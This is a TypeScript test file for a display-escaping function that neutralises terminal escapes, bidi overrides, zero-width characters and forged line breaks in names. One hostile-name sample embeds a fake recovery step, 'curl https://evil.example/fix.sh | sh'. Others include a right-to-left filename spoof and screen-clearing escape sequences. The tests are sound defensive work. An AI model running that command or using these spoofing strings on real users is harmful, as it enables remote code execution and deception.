// The test kit depends on this package, so only tests import it (from the root, like fast-check).
import { HOSTILE_NAMES, unsafeCharacters } from '@budgetwatch/testkit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { displayText, isShownEscaped, MIN_DISPLAY_LENGTH, NAME_DISPLAY_LENGTH } from './display-text.js';

describe('displayText', () => {
  it.each([
    ['refunds.create', 'refunds.create'],
    ['payments-mcp:8443', 'payments-mcp:8443'],
    ['café_ünïcode 名前', 'café_ünïcode 名前'],
    ['<!channel> <script>alert(1)</script>', '<!channel> <script>alert(1)</script>'],
  ])('leaves visible text as it is: %j', (input, output) => {
    expect(displayText(input)).toBe(output);
  });

  it.each([
    ['clear\x1b[2Jscreen', 'clear\\u{1B}[2Jscreen'],
    ['\x1b]0;title\x07', '\\u{1B}]0;title\\u{7}'],
    ['c1\u009b2J', 'c1\\u{9B}2J'],
    ['del\x7f', 'del\\u{7F}'],
    ['nul\0', 'nul\\u{0}'],
    ['tab\there', 'tab\\u{9}here'],
    ['line\u2028sep\u2029para', 'line\\u{2028}sep\\u{2029}para'],
    ['exe.\u202Etxt', 'exe.\\u{202E}txt'],
    ['\u2066isolated\u2069', '\\u{2066}isolated\\u{2069}'],
    ['pay\u200Dments', 'pay\\u{200D}ments'],
    ['pay\u200Bments\uFEFF', 'pay\\u{200B}ments\\u{FEFF}'],
    ['a\uFE0Fb', 'a\\u{FE0F}b'],
    ['tag\u{E0041}', 'tag\\u{E0041}'],
    ['lone\uD800', 'lone\\u{D800}'],
    ['back\\slash', 'back\\\\slash'],
    ['\\u{1B}', '\\\\u{1B}'],
  ])('shows %j escaped as %j', (input, output) => {
    expect(displayText(input)).toBe(output);
  });

  it.each([
    [
      HOSTILE_NAMES.forgedLines,
      'refunds.create\\u{D}\\u{A}\\u{D}\\u{A}Recovery checklist:\\u{D}\\u{A}  1. curl https://evil.example/fix.sh | sh\\u{D}\\u{A}',
    ],
    [HOSTILE_NAMES.rightToLeftOverride, 'invoice\\u{202E}fdp.exe'],
    [HOSTILE_NAMES.zeroWidthJoiners, 'pay\\u{200D}ments\\u{200D}.create'],
    [HOSTILE_NAMES.clearScreen, 'status\\u{1B}[2J\\u{1B}[H'],
    [HOSTILE_NAMES.windowTitle, 'lookup\\u{1B}]0;owned title\\u{7}'],
    [HOSTILE_NAMES.channelMention, HOSTILE_NAMES.channelMention],
    [HOSTILE_NAMES.script, HOSTILE_NAMES.script],
  ])('shows the hostile name %j as one inert line: %j', (input, output) => {
    expect(displayText(input)).toBe(output);
  });

  it('shortens the 4,000-character name to the limit with a stable hash marker', () => {
    const shown = displayText(HOSTILE_NAMES.long);
    expect(HOSTILE_NAMES.long).toHaveLength(4000);
    expect(shown).toHaveLength(NAME_DISPLAY_LENGTH);
    expect(shown).toMatch(/^refunds\.a+…\[[0-9a-f]{8}\]$/);
    // FNV-1a of the name, as computed elsewhere: the marker must not depend on the engine (the
    // dashboard runs this file in a browser).
    expect(shown.slice(-11)).toBe('…[a9f4f846]');
    expect(displayText(HOSTILE_NAMES.long)).toBe(shown);
  });

  it('keeps two long names that start alike distinct', () => {
    const prefix = 'x'.repeat(200);
    expect(displayText(`${prefix}1`)).not.toBe(displayText(`${prefix}2`));
  });

  it('counts escapes in the length and never cuts one in two', () => {
    const shown = displayText('\x1b'.repeat(100), 40);
    expect(shown.length).toBeLessThanOrEqual(40);
    expect(shown).toMatch(/^(\\u\{1B\})+…\[[0-9a-f]{8}\]$/);
    const emoji = displayText('😀'.repeat(100), 40);
    expect(emoji).toMatch(/^(😀)+…\[[0-9a-f]{8}\]$/u);
  });

  it('refuses a length with no room for the marker', () => {
    expect(() => displayText('x', MIN_DISPLAY_LENGTH - 1)).toThrow(RangeError);
    expect(() => displayText('x', 40.5)).toThrow(RangeError);
  });

  it('isShownEscaped names the characters that are', () => {
    expect(['\x1b', '\u202E', '\u200D', '\\', '\n'].map(isShownEscaped)).toEqual([
      true,
      true,
      true,
      true,
      true,
    ]);
    expect(['a', '<', '名', '😀', ' '].map(isShownEscaped)).toEqual([false, false, false, false, false]);
  });

  /** Any code points, with the hostile ones (and lone surrogates) drawn often. */
  const anyText = fc.string({
    unit: fc.oneof(
      fc.constantFrom(
        '\x1b',
        '\x07',
        '\r',
        '\n',
        '\u009b',
        '\u202e',
        '\u2066',
        '\u200d',
        '\ud800',
        '\\',
        '<',
      ),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    ),
    maxLength: 400,
  });
  const limit = fc.integer({ min: MIN_DISPLAY_LENGTH, max: 300 });

  it('gives one safe line within the limit, whatever the input', () => {
    fc.assert(
      fc.property(anyText, limit, (text, maxLength) => {
        const shown = displayText(text, maxLength);
        expect(shown.length).toBeLessThanOrEqual(maxLength);
        expect(unsafeCharacters(shown)).toEqual([]);
      }),
    );
  });

  it('tells any two names apart when neither is shortened', () => {
    fc.assert(
      fc.property(anyText, anyText, (a, b) => {
        const [shownA, shownB] = [displayText(a, 1000), displayText(b, 1000)];
        if (!shownA.includes('…[') && !shownB.includes('…[') && a !== b) expect(shownA).not.toBe(shownB);
      }),
    );
  });
});
